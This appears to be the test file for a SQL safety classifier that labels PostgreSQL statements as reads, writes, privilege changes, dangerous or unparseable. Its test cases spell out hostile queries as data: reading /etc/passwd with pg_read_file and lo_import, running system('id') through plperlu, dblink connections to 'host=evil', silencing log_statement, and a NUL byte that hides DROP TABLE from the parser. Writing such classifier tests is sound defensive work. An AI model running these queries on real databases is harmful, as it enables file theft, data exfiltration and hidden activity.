    "classes a function with a second, untrusted LANGUAGE as dangerous",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql LANGUAGE plperlu AS 'return 1'",
    "dangerous",
  ],
  [
    "classes an internal function as dangerous",
    "CREATE FUNCTION f(text) RETURNS text LANGUAGE internal AS 'textin'",
    "dangerous",
  ],
  [
    "classes a procedure in an untrusted language as dangerous",
    "CREATE PROCEDURE p() LANGUAGE plperlu AS 'system(\"id\")'",
    "dangerous",
  ],
  ["classes CREATE EXTENSION dblink as dangerous", "CREATE EXTENSION dblink", "dangerous"],
  [
    "classes CREATE EXTENSION postgres_fdw as dangerous",
    "CREATE EXTENSION IF NOT EXISTS postgres_fdw",
    "dangerous",
  ],
  ["classes CREATE EXTENSION file_fdw as dangerous", "CREATE EXTENSION file_fdw", "dangerous"],
  ["classes CREATE EXTENSION adminpack as dangerous", "CREATE EXTENSION adminpack", "dangerous"],
  ["classes CREATE EXTENSION plpython3u as dangerous", "CREATE EXTENSION plpython3u", "dangerous"],
  [
    "classes CREATE EXTENSION of any foreign-data wrapper as dangerous",
    "CREATE EXTENSION mysql_fdw",
    "dangerous",
  ],
  ["classes CREATE LANGUAGE plperlu as dangerous", "CREATE LANGUAGE plperlu", "dangerous"],
  ["classes pg_read_file as dangerous", "SELECT pg_read_file('/etc/passwd')", "dangerous"],
  [
    "classes schema-qualified pg_read_file as dangerous",
    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    "dangerous",
  ],
  [
    "classes quoted upper-case pg_read_file as dangerous",
    "SELECT \"PG_READ_FILE\"('/etc/passwd')",
    "dangerous",
  ],
  [
    "classes quoted schema-qualified pg_read_binary_file as dangerous",
    'SELECT "pg_catalog"."pg_read_binary_file"(\'global/pg_control\')',
    "dangerous",
  ],
  ["classes pg_ls_dir in FROM as dangerous", "SELECT * FROM pg_ls_dir('.')", "dangerous"],
  ["classes pg_stat_file as dangerous", "SELECT pg_stat_file('postgresql.conf')", "dangerous"],
  ["classes pg_ls_logdir as dangerous", "SELECT * FROM pg_ls_logdir()", "dangerous"],
  ["classes pg_ls_waldir as dangerous", "SELECT * FROM pg_catalog.pg_ls_waldir()", "dangerous"],
  ["classes pg_ls_tmpdir as dangerous", "SELECT * FROM pg_ls_tmpdir()", "dangerous"],
  ["classes pg_ls_archive_statusdir as dangerous", "SELECT * FROM pg_ls_archive_statusdir()", "dangerous"],
  ["classes lo_import as dangerous", "SELECT lo_import('/etc/passwd')", "dangerous"],
  ["classes lo_export as dangerous", "SELECT lo_export(1234, '/tmp/x')", "dangerous"],
  ["classes dblink_connect as dangerous", "SELECT dblink_connect('host=evil dbname=x')", "dangerous"],
  [
    "classes dblink in FROM as dangerous",
    "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
    "dangerous",
  ],
  [
    "classes pg_terminate_backend as dangerous",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'bob'",
    "dangerous",
  ],
  ["classes pg_cancel_backend as dangerous", "SELECT pg_cancel_backend(4242)", "dangerous"],
  ["classes pg_reload_conf as dangerous", "SELECT pg_reload_conf()", "dangerous"],
  ["classes pg_rotate_logfile as dangerous", "SELECT pg_rotate_logfile()", "dangerous"],
  ["classes pg_promote as dangerous", "SELECT pg_promote()", "dangerous"],
  ["classes pg_switch_wal as dangerous", "SELECT pg_switch_wal()", "dangerous"],
  ["classes pg_create_restore_point as dangerous", "SELECT pg_create_restore_point('before')", "dangerous"],
  [
    "classes adminpack's pg_file_write as dangerous",
    "SELECT pg_file_write('/tmp/x', 'data', false)",
    "dangerous",
  ],
  [
    "classes adminpack's pg_logdir_ls as dangerous",
    "SELECT * FROM pg_logdir_ls() AS t(a timestamp, b text)",
    "dangerous",
  ],
  [
    "classes a dangerous call in a scalar subquery as dangerous",
    "SELECT * FROM orders WHERE note = (SELECT pg_read_file('/etc/hostname'))",
    "dangerous",
  ],
  [
    "classes a dangerous call in a CTE as dangerous",
    "WITH f AS (SELECT pg_ls_dir('.') AS name) SELECT * FROM f",
    "dangerous",
  ],
  [
    "classes a dangerous call in ORDER BY as dangerous",
    "SELECT id FROM orders ORDER BY pg_read_file('/etc/passwd')",
    "dangerous",
  ],
  [
    "classes a dangerous call in a JOIN condition as dangerous",
    "SELECT * FROM a JOIN b ON a.id = length(pg_read_file('/etc/passwd'))",
    "dangerous",
  ],
  [
    "classes a dangerous call in EXISTS as dangerous",
    "SELECT 1 WHERE EXISTS (SELECT pg_terminate_backend(1))",
    "dangerous",
  ],
  [
    "classes a dangerous call in INSERT VALUES as dangerous",
    "INSERT INTO files (body) VALUES (pg_read_file('/etc/passwd'))",
    "dangerous",
  ],
  [
    "classes a dangerous call in UPDATE SET as dangerous",
    "UPDATE files SET body = pg_read_file('/etc/passwd') WHERE id = 1",
    "dangerous",
  ],
  ["classes a dangerous call in VALUES as dangerous", "VALUES (pg_read_file('/etc/passwd'))", "dangerous"],
  [
    "classes a dangerous call in a column default as dangerous",
    "CREATE TABLE t (body text DEFAULT pg_read_file('/etc/passwd'))",
    "dangerous",
  ],
  [
    "classes a dangerous call in ALTER ... SET DEFAULT as dangerous",
    "ALTER TABLE t ALTER COLUMN body SET DEFAULT pg_read_file('/etc/passwd')",
    "dangerous",
  ],
  [
    "classes a dangerous call in a view as dangerous",
    "CREATE VIEW files AS SELECT pg_ls_dir('/') AS name",
    "dangerous",
  ],
  [
    "classes a dangerous call in CALL arguments as dangerous",
    "CALL store(pg_read_file('/etc/passwd'))",
    "dangerous",
  ],
  [
    "classes a dangerous call under a plain EXPLAIN as dangerous",
    "EXPLAIN SELECT pg_read_file('/etc/passwd')",
    "dangerous",
  ],
  ["classes a dangerous call in PREPARE as dangerous", "PREPARE r AS SELECT pg_read_file($1)", "dangerous"],
  [
    "classes a dangerous call in a data-modifying CTE as dangerous",
    "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING pg_read_file('/etc/passwd')) SELECT * FROM d",
    "dangerous",
  ],
  [
    "classes a dangerous call in a SQL function body as dangerous",
    "CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$",
    "dangerous",
  ],
  [
    "classes a dangerous call in a SQL-standard body as dangerous",
    "CREATE FUNCTION leak() RETURNS text LANGUAGE sql RETURN pg_read_file('/etc/passwd')",
    "dangerous",
  ],
  [
    "classes SQL text run by query_to_xml as dangerous when it reads files",
    "SELECT query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')",
    "dangerous",
  ],
  [
    "classes query_to_xml of computed SQL as dangerous",
    "SELECT query_to_xml(q, true, false, '') FROM queries",
    "dangerous",
  ],
  [
    "classes set_config of log_statement as dangerous",
    "SELECT set_config('log_statement', 'none', false)",
    "dangerous",
  ],
  [
    "classes set_config of a computed setting name as dangerous",
    "SELECT set_config(name, 'x', false) FROM settings",
    "dangerous",
  ],
  [
    "classes SET session_replication_role as dangerous",
    "SET session_replication_role = replica",
    "dangerous",
  ],
  ["classes SET log_statement as dangerous", "SET log_statement = 'none'", "dangerous"],
  [
    "classes SET standard_conforming_strings = off as dangerous",
    "SET standard_conforming_strings = off",
    "dangerous",
  ],
  ["classes SET client_encoding to SJIS as dangerous", "SET client_encoding = 'SJIS'", "dangerous"],
  ["classes SET NAMES of a non-UTF8 encoding as dangerous", "SET NAMES 'GBK'", "dangerous"],
  [
    "classes SET session_preload_libraries as dangerous",
    "SET session_preload_libraries = 'evil'",
    "dangerous",
  ],
  [
    "classes ALTER DATABASE SET of a logging setting as dangerous",
    "ALTER DATABASE app SET log_min_duration_statement = -1",
    "dangerous",
  ],
  ["classes CREATE TABLESPACE as dangerous", "CREATE TABLESPACE ts LOCATION '/var/lib/ts'", "dangerous"],
  [
    "classes CREATE SUBSCRIPTION as dangerous",
    "CREATE SUBSCRIPTION sub CONNECTION 'host=evil' PUBLICATION pub",
    "dangerous",
  ],
  [
    "classes IMPORT FOREIGN SCHEMA as dangerous",
    "IMPORT FOREIGN SCHEMA public FROM SERVER remote INTO local",
    "dangerous",
  ],
  [
    "classes a SELECT then pg_read_file as dangerous",
    "SELECT 1; SELECT pg_read_file('/etc/passwd')",
    "dangerous",
  ],
  [
    "classes a dangerous call hidden after a comment and newline as dangerous",
    "SELECT 1 -- harmless\n, pg_read_file('/etc/passwd')",
    "dangerous",
  ],
];

const UNPARSEABLE: Case[] = [
  ["refuses a misspelt keyword as unparseable", "SELEC 1", "unparseable"],
  ["refuses an incomplete DROP as unparseable", "DROP TABLE", "unparseable"],
  ["refuses an unterminated string as unparseable", "SELECT 'unterminated", "unparseable"],
  ["refuses an unterminated dollar quote as unparseable", "SELECT $$ never closed", "unparseable"],
  ["refuses an input whose second statement is bad as unparseable", "SELECT 1; SELEC 2", "unparseable"],
  ["refuses empty input as unparseable", "", "unparseable"],
  ["refuses whitespace only as unparseable", "  \n\t ", "unparseable"],
  ["refuses a comment only as unparseable", "-- nothing here", "unparseable"],
  ["refuses a block comment only as unparseable", "/* nothing */", "unparseable"],
  ["refuses semicolons only as unparseable", ";;", "unparseable"],
  [
    "refuses a NUL that would hide the rest from the parser as unparseable",
    "SELECT 1\u0000; DROP TABLE t",
    "unparseable",
  ],
  ["refuses a lone surrogate as unparseable", "SELECT '\ud800'; DROP TABLE t", "unparseable"],
  ["refuses psql meta-commands as unparseable", "\\copy orders to 'x'", "unparseable"],
];

const ALL_CASES: Case[] = [
  ...READS,
  ...LOOK_ALIKES,
  ...WRITES,
  ...UNBOUNDED_WRITES,
  ...DDL,
  ...PRIVILEGE,
  ...DANGEROUS,
  ...UNPARSEABLE,
];

describe("classifySql", () => {
  it.each(ALL_CASES)("%s", async (_behaviour, sql, expected) => {
    const result = await classifySql(sql);
    expect(result.class).toBe(expected);
  });

  it("has a large table of cases", () => {
    expect(ALL_CASES.length).toBeGreaterThanOrEqual(150);
    expect(new Set(ALL_CASES.map(([behaviour]) => behaviour)).size).toBe(ALL_CASES.length);
  });
});

describe("classifiedAsWrite", () => {
  it("classes one statement a write for the reason given and recomputes the input's class", async () => {
    const before = await classifySql("select 1; select lower('A'); select 2");
    const after = classifiedAsWrite(before, 1, "the target refused it");
    expect(after.class).toBe("write");
    expect(after.statements.map((s) => s.class)).toEqual(["read", "write", "read"]);
    expect(after.statements[1]?.reasons).toEqual(["the target refused it"]);
    expect(before.statements[1]?.class).toBe("read");
  });
});

describe("statements", () => {
  it("slices each statement's text from the input, across multi-byte characters", async () => {
    const result = await classifySql("SELECT 'é😀' ;\n  DELETE FROM orders WHERE id = 1; -- done\n");
    expect(result.statements.map((s) => [s.index, s.text, s.kind, s.class])).toEqual([
      [0, "SELECT 'é😀'", "SelectStmt", "read"],
      [1, "DELETE FROM orders WHERE id = 1", "DeleteStmt", "write"],
    ]);
  });

  it("gives the input the strictest class of its statements", async () => {
    const result = await classifySql("GRANT SELECT ON t TO bob; SELECT 1; DELETE FROM t");
    expect(result.statements.map((s) => s.class)).toEqual(["privilege", "read", "unbounded-write"]);
    expect(result.class).toBe("privilege");
  });

  it("explains each class in words", async () => {
    const [statement] = (await classifySql("DELETE FROM public.orders")).statements;
    expect(statement?.reasons).toEqual(["DELETE without WHERE affects every row of public.orders"]);
  });

  it("names the dangerous call in its reason", async () => {
    const [statement] = (await classifySql("SELECT pg_catalog.pg_read_file('/etc/passwd')")).statements;
    expect(statement?.reasons).toEqual([
      "calls pg_catalog.pg_read_file(), which reaches the server's file system",
    ]);
  });

  it("gives EXECUTE the class of the statement prepared earlier in the input", async () => {
    const result = await classifySql("PREPARE wipe AS DELETE FROM orders; EXECUTE wipe");
    expect(result.statements.map((s) => s.class)).toEqual(["unbounded-write", "unbounded-write"]);
  });
});

describe("tables", () => {
  it.each([
    [
      "keeps the schema where the SQL gives one",
      "SELECT * FROM public.orders o JOIN Customers c ON c.id = o.cid",
      ["public.orders", "customers"],
    ],
    ["lower-cases quoted names", 'SELECT * FROM "Sales"."Orders"', ["sales.orders"]],
    [
      "leaves CTE names out",
      "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent, items",
      ["orders", "items"],
    ],
    [
      "keeps a table a later CTE shadows when the earlier CTE reads it",
      "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b",
      ["b"],
    ],
    [
      "keeps the DML target even when a CTE has its name",
      "WITH orders AS (SELECT 1) DELETE FROM orders WHERE id = 1",
      ["orders"],
    ],
    [
      "finds tables in subqueries and data-modifying CTEs",
      "WITH d AS (DELETE FROM inbox WHERE done RETURNING id) INSERT INTO archive SELECT * FROM d WHERE id IN (SELECT id FROM keep)",
      ["archive", "inbox", "keep"],
    ],
    ["finds dropped tables", "DROP TABLE billing.invoices, notes", ["billing.invoices", "notes"]],
    ["finds truncated tables", "TRUNCATE a, s.b", ["a", "s.b"]],
    ["finds the target of COPY", "COPY billing.invoices FROM STDIN", ["billing.invoices"]],
    [
      "finds tables in the SQL text of query_to_xml",
      "SELECT query_to_xml('select * from billing.invoices', true, false, '')",
      ["billing.invoices"],
    ],
    ["finds no table in a SELECT of constants", "SELECT 1, 'a', now()", []],
  ])("%s", async (_behaviour, sql, expected) => {
    const [statement] = (await classifySql(sql)).statements;
    expect(statement?.tables.slice().sort()).toEqual([...expected].sort());
  });
});

describe("functions", () => {
  it.each([
    [
      "lower-cases and keeps the schema",
      'SELECT "PG_CATALOG"."Lower"(name), upper(name) FROM t',
      ["pg_catalog.lower", "upper"],
    ],
    [
      "finds calls in subqueries, CTEs and FROM",
      "WITH x AS (SELECT now() AS t) SELECT * FROM x, generate_series(1, 3) WHERE 1 = (SELECT abs(-1))",
      ["now", "generate_series", "abs"],
    ],
    ["finds the procedure of CALL", "CALL app.refresh(1)", ["app.refresh"]],
    [
      "finds calls in column defaults",
      "CREATE TABLE t (id uuid DEFAULT gen_random_uuid())",
      ["gen_random_uuid"],
    ],
    ["finds no call in a string", "SELECT 'pg_read_file(1)'", []],
  ])("%s", async (_behaviour, sql, expected) => {
    const [statement] = (await classifySql(sql)).statements;
    expect(statement?.functions.slice().sort()).toEqual([...expected].sort());
  });
});

describe("errors", () => {
  it("reports the parser's message and the 0-based position of a syntax error", async () => {
    const result = await classifySql("SELECT 1;\nSELEC 2");
    expect(result.class).toBe("unparseable");
    expect(result.error).toEqual({ message: 'syntax error at or near "SELEC"', position: 10 });
  });

  it("counts the error position in string indexes after characters outside the BMP", async () => {
    const input = "SELECT '😀😀' FRM t";
    const result = await classifySql(input);
    expect(result.error?.position).toBe(input.indexOf("t"));
  });

  it("reports the end of the input for an unfinished statement", async () => {
    const input = "SELECT * FROM";
    const result = await classifySql(input);
    expect(result.error?.message).toBe("syntax error at end of input");
    expect(result.error?.position).toBe(input.length);
  });

  it("reports an empty input as no statement", async () => {
    const result = await classifySql("  -- just a comment\n");
    expect(result.error?.message).toBe("no statement");
    expect(result.statements).toHaveLength(1);
    expect(result.statements[0]?.class).toBe("unparseable");
  });

  it("points at a NUL character", async () => {
    const result = await classifySql("SELECT 1\u0000; DROP TABLE t");
    expect(result.error?.position).toBe(8);
  });

  it("refuses a tree too deep for the parser and keeps classifying afterwards", async () => {
    const deep = await classifySql(`SELECT ${"1+".repeat(12_000)}1`);
    expect(deep.class).toBe("unparseable");
    const after = await classifySql("SELECT 1; DELETE FROM orders WHERE id = 1");
    expect(after.class).toBe("write");
    expect(after.statements.map((s) => s.text)).toEqual(["SELECT 1", "DELETE FROM orders WHERE id = 1"]);
  }, 30_000);
});

describe("properties", () => {
  const isClassified = (result: Awaited<ReturnType<typeof classifySql>>) => {
    expect(STATEMENT_CLASSES).toContain(result.class);
    expect(result.statements.length).toBeGreaterThan(0);
    for (const statement of result.statements) expect(STATEMENT_CLASSES).toContain(statement.class);
    const strictest = Math.max(...result.statements.map((s) => CLASS_SEVERITY[s.class]));
    expect(CLASS_SEVERITY[result.class]).toBe(strictest);
  };

  it("classifies any string without throwing", async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: "binary", maxLength: 200 }), async (input) => {
        isClassified(await classifySql(input));
      }),
      { numRuns: 400 },
    );
  });

  const tokens = [
    "SELECT",
    "FROM",
    "WHERE",
    "DELETE",
    "UPDATE",
    "SET",
    "INSERT",
    "INTO",
    "VALUES",
    "DROP",
    "TABLE",
    "WITH",
    "AS",
    "EXPLAIN",
    "ANALYZE",
    "(",
    ")",
    ",",
    ";",
    "'x'",
    "$$",
    "$a$",
    "--",
    "/*",
    "*/",
    "\n",
    "1",
    "t",
    "orders",
    "pg_read_file",
    "set_config",
    "'role'",
    "COPY",
    "TO",
    "STDOUT",
    "PROGRAM",
    "GRANT",
    "ROLE",
    "DO",
    "*",
    "=",
    "RETURNING",
    "PREPARE",
    "EXECUTE",
    "p",
    "::",
    "E'\\''",
    '"q"',
    "BEGIN",
    "COMMIT",
    "TRUNCATE",
    "ONLY",
  ];

  it("classifies any sequence of SQL-ish tokens without throwing", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...tokens), { maxLength: 30 }), async (words) => {
        isClassified(await classifySql(words.join(" ")));
      }),
      { numRuns: 600 },
    );
  });

  const pieces = [
    "SELECT 1",
    "SELECT 'é😀; not a break'",
    "DELETE FROM orders WHERE id = 1",
    "SELECT $$;$$",
    'SELECT "a;b" FROM t',
    "UPDATE t SET a = 'x' WHERE b",
    "SELECT 2 /* inside */ + 3",
  ];
  const separators = [";", " ; ", ";\n", ";\r\n\t", "; -- note\n", "; /* ; */ ", ";;\n"];

  it("slices every statement of a multi-statement input exactly", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.constantFrom(...pieces), fc.constantFrom(...separators)), {
          minLength: 1,
          maxLength: 6,
        }),
        async (parts) => {
          const input = parts.map(([piece, separator]) => piece + separator).join("");
          const result = await classifySql(input);
          expect(result.statements.map((s) => s.text)).toEqual(parts.map(([piece]) => piece));
          expect(result.statements.map((s) => s.index)).toEqual(parts.map((_, i) => i));
        },
      ),
      { numRuns: 300 },
    );
  });

  const text = fc.string({ unit: "grapheme", maxLength: 80 }).filter((s) => !s.includes("\u0000"));

  it("keeps any string literal a read", async () => {
    await fc.assert(
      fc.asyncProperty(text, async (s) => {
        expect((await classifySql(`SELECT '${s.replaceAll("'", "''")}'`)).class).toBe("read");
      }),
      { numRuns: 300 },
    );
  });

  it("keeps any line comment a read", async () => {
    await fc.assert(
      fc.asyncProperty(
        text.filter((s) => !/[\n\r]/.test(s)),
        async (s) => {
          expect((await classifySql(`SELECT 1 -- ${s}`)).class).toBe("read");
        },
      ),
      { numRuns: 300 },
    );
  });

  it("keeps any dollar-quoted string a read", async () => {
    await fc.assert(
      fc.asyncProperty(
        text.filter((s) => !s.includes("$q$") && !s.endsWith("$q") && !s.endsWith("$")),
        async (s) => {
          expect((await classifySql(`SELECT $q$${s}$q$`)).class).toBe("read");
        },
      ),
      { numRuns: 300 },
    );
  });
});
